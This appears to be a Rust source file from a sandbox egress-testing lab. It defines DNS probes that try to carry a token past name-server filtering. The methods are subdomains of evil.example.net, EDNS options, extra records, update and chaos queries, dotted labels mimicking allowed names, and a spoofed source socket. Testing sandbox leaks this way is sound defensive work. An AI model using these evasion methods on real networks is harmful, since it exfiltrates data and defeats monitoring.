//! Ways by questions to name servers.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::os::fd::OwnedFd;

use netwright_sandbox_lab::internet::dns::{self, Question, kind};

use crate::net::{PATIENCE, named, packet_information, send_message, socket_address, tcp};
use crate::{Came, Outcome, Way, token, word};

pub(crate) const WAYS: &[Way] = &[
    ("ask", |words| answered(&ask(server(words)?, &question(words)?.message(), false)?)),
    ("ask-tcp", |words| answered(&ask(server(words)?, &question(words)?.message(), true)?)),
    ("ask-token", |words| {
        let mut question = question(words)?;
        question.name = format!("{}.{}", token(), question.name);
        answered(&ask(server(words)?, &question.message(), false)?)
    }),
    ("ask-as-another-socket", as_another_socket),
    ("ask-two", |words| hidden(words, two_questions)),
    ("ask-trailing", |words| hidden(words, |message| [message, token().as_bytes()].concat())),
    ("ask-option", |words| hidden(words, with_option)),
    ("ask-opcode", |words| hidden(words, update)),
    ("ask-class", |words| hidden(words, chaos)),
    ("ask-additional", |words| hidden(words, additional)),
    ("ask-dotted-label", dotted_label),
    ("ask-then-tcp", ask_then_tcp),
    ("lookup-token", |words| {
        let name = format!("{}.{}", token(), word(words, 0)?);
        Ok(Came::Reached(format!("{}", named(&name, 0)?.ip())))
    }),
];

/// The name server that the system is told to ask.
pub(crate) fn configured() -> Result<SocketAddr, Box<dyn std::error::Error>> {
    let text = std::fs::read_to_string("/etc/resolv.conf")?;
    let mut servers = text.lines().filter_map(|line| line.strip_prefix("nameserver "));
    Ok(SocketAddr::new(servers.next().ok_or("/etc/resolv.conf has no name server")?.trim().parse()?, 53))
}

/// `system`, or an address with port 53, or address and port with a `#` between.
fn server(words: &[&str]) -> Result<SocketAddr, Box<dyn std::error::Error>> {
    match word(words, 0)? {
        "system" => configured(),
        text => {
            let (address, port) = text.split_once('#').unwrap_or((text, "53"));
            Ok(SocketAddr::new(address.parse()?, port.parse()?))
        }
    }
}

fn question(words: &[&str]) -> Result<Question, Box<dyn std::error::Error>> {
    let kind = match word(words, 2)? {
        "A" => kind::A,
        "AAAA" => kind::AAAA,
        "TXT" => kind::TXT,
        "NULL" => kind::NULL,
        "SRV" => kind::SRV,
        "HTTPS" => kind::HTTPS,
        "ANY" => kind::ANY,
        other => other.parse()?,
    };
    Ok(Question { id: std::process::id() as u16, name: word(words, 1)?.to_owned(), kind })
}

/// Sends a message and takes the answer.
fn ask(to: SocketAddr, message: &[u8], tcp: bool) -> Result<Vec<u8>, Box<dyn std::error::Error>> {
    let failed = |error: std::io::Error| format!("{to}: {error}");
    if tcp {
        let mut stream = TcpStream::connect_timeout(&to, PATIENCE).map_err(failed)?;
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.write_all(&[&(message.len() as u16).to_be_bytes()[..], message].concat())?;
        let mut length = [0; 2];
        stream.read_exact(&mut length).map_err(failed)?;
        let mut answer = vec![0; usize::from(u16::from_be_bytes(length))];
        stream.read_exact(&mut answer)?;
        return Ok(answer);
    }
    let socket = UdpSocket::bind(if to.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" })?;
    socket.connect(to)?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.send(message).map_err(failed)?;
    let mut answer = vec![0; 4096];
    let length = socket.recv(&mut answer).map_err(failed)?;
    answer.truncate(length);
    Ok(answer)
}

/// An answer with records is something that was reached; one without is a refusal.
fn answered(answer: &[u8]) -> Outcome {
    match answer {
        [_, _, _, flags, _, _, high, low, ..] if (flags & 15) == 0 && (*high, *low) != (0, 0) => {
            Ok(Came::Reached(format!(
                "{} records {:?}",
                u16::from_be_bytes([*high, *low]),
                dns::addresses(answer)
            )))
        }
        [_, _, _, flags, ..] => Err(format!("no records, code {}", flags & 15).into()),
        _ => Err("the answer is too short".into()),
    }
}

/// Asks for something that may be asked, with the token somewhere beside it.
fn hidden(words: &[&str], hide: impl FnOnce(&[u8]) -> Vec<u8>) -> Outcome {
    let message = hide(&question(words)?.message());
    let to = server(words)?;
    answered(&ask(to, &message, false).or_else(|_| ask(to, &message, true))?)
}

/// A question from the port that a server of the host has at one of its addresses, bound at another and sent from the server's: the answer goes to it.
fn as_another_socket(words: &[&str]) -> Outcome {
    let (to, own, port) = (server(words)?, Ipv4Addr::new(127, 0, 0, 9), word(words, 1)?.parse()?);
    let socket = OwnedFd::from(UdpSocket::bind((own, port))?);
    let question = Question { id: 7, name: format!("{}.evil.example.net", token()), kind: kind::A };
    let control = packet_information(0, Ipv4Addr::LOCALHOST);
    send_message(&socket, &socket_address(to), &question.message(), &control, 0)?;
    std::thread::sleep(PATIENCE);
    Err("the question is sent".into())
}

/// A second question, for a name that holds the token.
fn two_questions(message: &[u8]) -> Vec<u8> {
    let second = Question { id: 0, name: format!("{}.evil.example.net", token()), kind: kind::A }.message();
    let mut both = [message, second.get(12..).unwrap_or_default()].concat();
    both.splice(4..6, [0, 2]);
    both
}

/// An EDNS option of the private range with the token.
fn with_option(message: &[u8]) -> Vec<u8> {
    let token = token();
    let length = token.len() as u16;
    let record = [
        &[0, 0, 41, 4, 208, 0, 0, 0, 0][..],
        &(length + 4).to_be_bytes(),
        &65_001_u16.to_be_bytes(),
        &length.to_be_bytes(),
        token.as_bytes(),
    ];
    let mut message = [message, &record.concat()].concat();
    message.splice(10..12, [0, 1]);
    message
}

/// A text record with the token in the additional section.
fn additional(message: &[u8]) -> Vec<u8> {
    let token = token();
    let length = token.len() as u8;
    let record = [&[0, 0, 16, 0, 1, 0, 0, 0, 0, 0, length + 1, length][..], token.as_bytes()];
    let mut message = [message, &record.concat()].concat();
    message.splice(10..12, [0, 1]);
    message
}

/// An update instead of a query, with the token behind.
fn update(message: &[u8]) -> Vec<u8> {
    let mut message = additional(message);
    message.splice(2..3, [5 << 3]);
    message
}

/// The class of chaos, with the token behind.
fn chaos(message: &[u8]) -> Vec<u8> {
    let end = message.len();
    let mut message = message.to_vec();
    message.splice(end - 2.., 3_u16.to_be_bytes());
    additional(&message)
}

/// A name whose labels hold dots, so that its text looks like an allowed one: the last label is `net.x.SUFFIX`.
fn dotted_label(words: &[&str]) -> Outcome {
    let last = format!("net.x.{}", word(words, 1)?);
    let mut message = [std::process::id() as u16, 0x0100, 1, 0, 0, 0].map(u16::to_be_bytes).concat();
    for label in [&token(), "evil", "example", &last] {
        message.push(label.len() as u8);
        message.extend(label.as_bytes());
    }
    message.extend([0, 0, 1, 0, 1]);
    answered(&ask(server(words)?, &message, false)?)
}

/// Asks a question, then connects to an address that the answer may have opened.
fn ask_then_tcp(words: &[&str]) -> Outcome {
    let _ = ask(server(words)?, &question(words)?.message(), false);
    tcp(SocketAddr::new(word(words, 3)?.parse()?, word(words, 4)?.parse()?))
}
